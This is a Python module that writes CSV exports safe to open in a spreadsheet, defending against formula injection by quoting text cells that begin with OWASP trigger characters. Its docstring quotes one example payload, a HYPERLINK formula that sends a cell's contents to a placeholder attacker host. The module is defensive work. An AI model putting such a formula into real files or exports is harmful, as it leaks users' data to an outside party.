"""CSV that is safe to open in a spreadsheet: the one CSV writer of the project.

Reports and customer exports carry untrusted text (attribute values, agents, scopes). A cell
such as ``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` is run as a formula by Excel,
LibreOffice and Google Sheets when the file is opened, so, as OWASP advises, a text cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a single
quote before it (spreadsheets show it as text; the quote is visible to other readers).

Numbers are data, not formulas: an ``int`` or ``float`` is written as it is, and so is a text
that is exactly a decimal number (``-12``, ``-0.25``, ``+3``, ``1e-3``), which a spreadsheet
reads as that number. Anything else that starts with a trigger, ``-1+1`` included, is quoted.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell no spreadsheet runs: a formula-like text gets a leading quote."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, int | float):
        text = str(value)
        if text.startswith(TRIGGERS) and not _NUMBER.fullmatch(text):
            return "'" + text
        return text
    return value


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A CSV document with a header of ``columns`` and each row's cells made safe
    (keys not in ``columns`` are left out)."""
    out = io.StringIO()
    writer = csv.DictWriter(out, columns, extrasaction="ignore", lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({column: safe_cell(row.get(column)) for column in columns})
    return out.getvalue()
